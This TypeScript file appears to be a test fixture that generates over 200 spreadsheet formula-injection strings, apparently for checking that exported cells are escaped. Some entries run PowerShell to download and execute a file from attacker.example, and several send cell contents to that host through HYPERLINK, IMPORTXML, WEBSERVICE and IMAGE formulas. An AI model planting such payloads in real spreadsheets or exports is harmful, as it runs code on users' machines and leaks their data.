const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠']

/** Texts that execute, fetch, or start another cell, after a sign that starts a formula. */
const bodies = [
  '1+1',
  "1+1+cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  'HYPERLINK("https://attacker.example?x="&A1&B1,"Open")',
  'IMPORTXML(CONCAT("https://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',
  'IMPORTDATA("https://attacker.example/?x="&A1)',
  'WEBSERVICE("https://attacker.example/"&A1)',
  'IMAGE("https://attacker.example/?x="&A1)',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'A1,"=1+1"',
  '1";=1+1',
  '1\r\n=1+1',
  "1\n=2+5+cmd|' /C calc'!A0,x",
  '"',
  '',
  '0',
]

/** Over 200 texts that a spreadsheet would execute in an unescaped cell. */
export const formulaPayloads: readonly string[] = signs.flatMap((sign) => bodies.map((body) => sign + body))
